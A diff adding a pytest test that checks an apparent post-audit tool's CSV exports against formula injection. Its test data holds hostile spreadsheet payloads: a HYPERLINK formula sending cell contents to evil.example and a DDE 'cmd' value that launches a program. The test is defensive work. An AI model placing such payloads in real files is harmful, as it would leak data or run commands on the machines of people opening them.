@@ -75,3 +75,38 @@ def test_undecided_removes_a_mark():
     d.mark("twitter", "1", "undecided")
     assert len(d) == 0 and d.get("twitter", "1") == "undecided"
     assert (DATA_SAMPLES / "twitter.zip").is_file()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_csv_cell_opens_as_a_formula(tmp_path, start):
+    # CSV injection (OWASP): a post that begins like a formula is text we did not write
+    import csv
+
+    from audit.exports import FORMULA_STARTS
+
+    text = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click") my manager is an idiot'
+    posts = pd.DataFrame(
+        {
+            "post_id": ["1", "2"],
+            "platform": ["twitter"] * 2,
+            "text": [text, "fine post"],
+            "kind": ["post", "post"],
+            "created_at": pd.to_datetime(["2024-01-01", "2024-01-02"], utc=True),
+            "url": [f"{start}cmd|' /C calc'!A0", None],
+        }
+    )
+    scored = audit.score_posts(posts, rules_only=True)
+    scored.loc[:, "is_negative"] = True  # export both, whatever the scorers say
+    scored.loc[:, "why"] = [f"{start}SUM(1+1)", "ok"]
+    decisions = Decisions(tmp_path / "decisions.json")
+    decisions.mark("twitter", "1", "delete")
+    written = export_all(scored, tmp_path / "out", decisions)
+    for name in ("flagged", "delete-list"):
+        with written[name].open(encoding="utf-8", newline="") as fh:
+            cells = [cell for row in csv.reader(fh) for cell in row]
+        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], name
+    with written["flagged"].open(encoding="utf-8", newline="") as fh:
+        rows = {r["post_id"]: r for r in csv.DictReader(fh)}
+    assert rows["1"]["text"] == "'" + text  # shown as text, word for word
+    assert rows["1"]["why"] == f"'{start}SUM(1+1)"
+    assert sorted(rows) == ["1", "2"]  # ids are never changed
